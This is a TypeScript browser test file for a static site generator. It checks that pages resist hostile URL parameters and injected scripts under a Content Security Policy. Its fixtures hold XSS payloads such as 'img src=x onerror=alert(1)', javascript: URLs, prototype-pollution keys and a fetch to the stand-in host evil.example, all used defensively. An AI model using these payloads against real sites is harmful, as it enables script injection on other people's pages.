import { expect, test } from "vitest";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { renderPage } from "../../src/publish/page.ts";
import { frameOf, planSite } from "../../src/publish/plan-site.ts";
import { withTexts } from "../../src/publish/testing/changed-inputs.ts";
import { testingSite } from "../../src/publish/testing/testing-site.ts";
import { pageKinds } from "../page-kinds.ts";
import { testInBrowser } from "./open-browser.ts";
import { serveFiles } from "./site-server.ts";
import { overflow } from "./soundness.ts";

const data = testingSite();
const ADDRESSES = pageKinds(data).map(({ most }) => most);

/** What any page may read from its address, each with what it never means; and what no page reads. */
const NONSENSE =
  "?open=javascript:alert(1)&open=//evil.example/&q=%00%E0%A4%A&series=__proto__&group=constructor&place=toString&round=-1&sort=-hasOwnProperty&kind=%3Cscript%3E&class=NaN&date=9999-99-99&as-of=yesterday&from=1&to=2&view=&zoom=1e999&x=-Infinity&w=NaN,NaN&level=101&by=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E&lang=tlh&theme=plaid&a=&a=&=&&#show=999999,%E0%A4";

/** Run in the page: puts what an attacker would want into it, and tells what of it ran. */
const INJECT = `(async () => {
  globalThis.ran = [];
  const put = (make) => { try { document.body.append(make()); } catch (error) { ran.push(String(error)); } };
  const script = (text) => Object.assign(document.createElement("script"), { textContent: text });
  put(() => script("ran.push('script')"));
  put(() => Object.assign(document.createElement("script"), { src: "data:text/javascript,ran.push('data')" }));
  put(() => document.createRange().createContextualFragment("<img src=x onerror=\\"ran.push('onerror')\\">"));
  put(() => document.createRange().createContextualFragment("<a id=bad href=\\"javascript:ran.push('href')\\">x</a>"));
  put(() => document.createRange().createContextualFragment("<p id=styled style='color: rgb(1, 2, 3)'>x</p><iframe srcdoc='x'></iframe>"));
  document.getElementById("bad").click();
  try { setTimeout("ran.push('timeout')", 0); } catch {}
  // Later, because the developer tools' own evaluation, which this is, may do what a page may not.
  setTimeout(() => { try { ran.push(new Function("return 'eval'")()); } catch {} }, 0);
  await fetch("https://evil.example/").then(() => ran.push("fetch"), () => {});
  await new Promise((resolve) => setTimeout(resolve, 100));
  if (getComputedStyle(document.getElementById("styled")).color === "rgb(1, 2, 3)") ran.push("style");
  return ran;
})()`;

testInBrowser(
  () => data,
  ({ site, read }) => {
    test("an address with nonsense parameters shows the page that it names", { timeout: 180_000 }, async () => {
      const reader = await read();
      reader.page.on("dialog", () => expect.unreachable("a parameter ran as a script"));
      for (const address of ADDRESSES) {
        for (const language of ["", "en/"]) {
          await reader.go(language + address);
          const heading = await reader.page.locator("main h1").textContent();
          await reader.go(`${language}${address}${NONSENSE}`);
          expect(await reader.page.locator("main h1").textContent(), address).toBe(heading);
          expect(await reader.page.getByRole("dialog").count(), address).toBe(0);
          expect(await overflow(reader), address).toBeLessThanOrEqual(0);
        }
      }
      await reader.done();
    });

    test("what is injected into a page does not run, and reaches nobody", async () => {
      const reader = await read();
      const refused: string[] = [];
      reader.page.on("console", (message) => refused.push(message.text()));
      await reader.go("en/groups/acme/");
      expect(await reader.page.evaluate<string[]>(INJECT)).toEqual([]);
      expect(refused.filter((text) => text.includes("Content Security Policy")).length).toBeGreaterThan(5);
      expect(reader.page.frames().filter((frame) => frame.url().startsWith(site().home)).length).toBe(1);
      // The browser logs each refusal as an error, which is what is wanted here.
      await reader.page.context().close();
    });
  },
);

/** Three hundred letters, markup, signs beyond 16 bits, and a turn of direction that is never turned back. */
const LONG = ` "><img src=x onerror=alert(1)> \u202Eمؤسسة \u2066😀👩‍👩‍👧𠮷 ${"长".repeat(150)}${"W".repeat(150)}`;

/** Run in the page: what reaches furthest beyond the window and in no box that scrolls, with the elements that hold it. */
const WIDEST = `(() => {
  const outside = Array.from(document.querySelectorAll("body *")).filter((element) => {
    for (let box = element; box !== document.body; box = box.parentElement)
      if (/auto|scroll|hidden|clip/.test(getComputedStyle(box).overflowX)) return false;
    return element.getBoundingClientRect().right > innerWidth;
  });
  const [widest] = outside.sort((left, right) => right.getBoundingClientRect().right - left.getBoundingClientRect().right);
  const names = [];
  for (let box = widest; box && box !== document.body; box = box.parentElement) names.push(box.tagName + "." + box.getAttribute("class"));
  return names.join(" < ");
})()`;

testInBrowser(
  () => data,
  ({ read }) => {
    test.each([390, 1280])("however long and strange every text is, no page is wider than %d px", async (width) => {
      const reader = await read({ viewport: { width, height: 844 } });
      reader.page.on("dialog", () => expect.unreachable("a text ran as a script"));
      const tooWide: string[] = [];
      for (const address of ADDRESSES) {
        await reader.go(`en/${address}`);
        if ((await overflow(reader)) > 0) tooWide.push(`${address}: ${await reader.page.evaluate<string>(WIDEST)}`);
        expect(await reader.page.locator("img").count(), address).toBe(0);
      }
      expect(tooWide).toEqual([]);
      await reader.done();
    });
  },
  async (own, assets) => {
    const frame = frameOf(own);
    const files = new Map(
      Array.from(planSite(own), (page) => [
        page.path,
        renderPage(page.path.endsWith(".html") ? withTexts(page, LONG) : page, frame),
      ]),
    );
    return serveFiles(
      (path) => (path.startsWith("assets/") ? readFileSync(join(assets, path.slice("assets/".length))) : files.get(path)),
      [...files.keys()],
    );
  },
);
